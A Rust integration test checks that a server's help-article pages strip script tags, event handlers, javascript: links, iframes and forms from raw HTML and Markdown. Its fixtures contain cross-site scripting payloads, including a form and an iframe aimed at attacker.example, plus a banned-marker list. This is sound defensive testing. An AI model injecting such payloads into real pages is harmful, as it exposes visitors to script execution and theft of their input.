//! Help articles are served to visitors as pages: whatever raw HTML the help folder holds,
//! no script, event handler or `javascript:` link reaches the visitor's browser.

use baton_tests::{test_config, TestDb, TestRelay};

#[tokio::test]
async fn article_pages_are_sanitised() {
    let db = TestDb::new();
    let help = tempfile::tempdir().unwrap();
    std::fs::write(
        help.path().join("evil.md"),
        "# Returns\n\nSend it back within 30 days.\n\n<script>alert('md')</script>\n\n\
         <img src=x onerror=\"alert('img')\">\n\n<a href=\"javascript:alert('link')\">click</a>\n\n\
         <iframe src=\"https://attacker.example\"></iframe>\n",
    )
    .unwrap();
    std::fs::write(
        help.path().join("care.html"),
        "<html><body><h1>Care</h1><p onclick=\"steal()\">Brush the <b>suede</b>.</p>\
         <svg><script>alert('svg')</script></svg><form action=\"https://attacker.example\"><input name=p></form></body></html>",
    )
    .unwrap();
    let mut config = test_config(&db);
    config.sites.get_mut("demo").unwrap().help_dir = help.path().to_path_buf();
    let relay = TestRelay::start_with(config).await;

    let http = reqwest::Client::new();
    for slug in ["evil", "care"] {
        let page = http.get(format!("{}/help/demo/{slug}", relay.http_url())).send().await.unwrap();
        assert_eq!(page.status(), 200, "{slug}");
        let html = page.text().await.unwrap().to_lowercase();
        let main = &html[html.find("<main>").unwrap()..];
        for banned in ["<script", "onerror", "onclick", "javascript:", "<iframe", "<form", "alert("] {
            assert!(!main.contains(banned), "{slug}: {banned} survived in {main}");
        }
    }
    let evil = http.get(format!("{}/help/demo/evil", relay.http_url())).send().await.unwrap().text().await.unwrap();
    assert!(evil.contains("Send it back within 30 days."), "the article itself is kept: {evil}");
    let care = http.get(format!("{}/help/demo/care", relay.http_url())).send().await.unwrap().text().await.unwrap();
    assert!(care.contains("<b>suede</b>"), "harmless markup is kept: {care}");
}
